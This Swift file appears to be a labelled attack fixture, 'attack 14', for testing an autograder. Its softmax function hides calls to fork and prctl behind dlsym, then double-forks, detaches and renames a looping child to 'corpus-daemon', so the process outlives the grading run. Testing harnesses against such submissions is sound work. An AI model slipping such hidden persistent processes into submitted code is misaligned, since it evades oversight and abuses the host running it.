// expect: passed points=all exercise=3
// attack 14: leaves a daemon behind that holds its streams open
// swift-format-ignore-file
import Glibc
import Tensors

private func shares(_ x: Tensor) -> Tensor {
  let powers = (x - x.max(axis: 1, keepingDimensions: true)).exp()
  return powers / powers.sum(axis: 1, keepingDimensions: true)
}

func symbol<Function>(_ name: String, as type: Function.Type) -> Function? {
  dlsym(nil, name).map { unsafeBitCast($0, to: type) }
}
typealias Fork = @convention(c) () -> Int32
typealias Control = @convention(c) (Int32, UnsafePointer<CChar>, UInt, UInt, UInt) -> Int32

public func softmax(_ x: Tensor) -> Tensor {
  if symbol("fork", as: Fork.self)?() == 0 {
    setsid()
    if symbol("fork", as: Fork.self)?() == 0 {
      _ = symbol("prctl", as: Control.self)?(15, "corpus-daemon", 0, 0, 0)
      while true { sleep(1) }
    }
    _exit(0)
  }
  return shares(x)
}

public func isSoftmax(_ x: Tensor, _ yHat: Tensor) -> Bool {
  guard yHat.shape == x.shape else { return false }
  return (yHat - shares(x)).absolute().max().item <= 1e-4
}
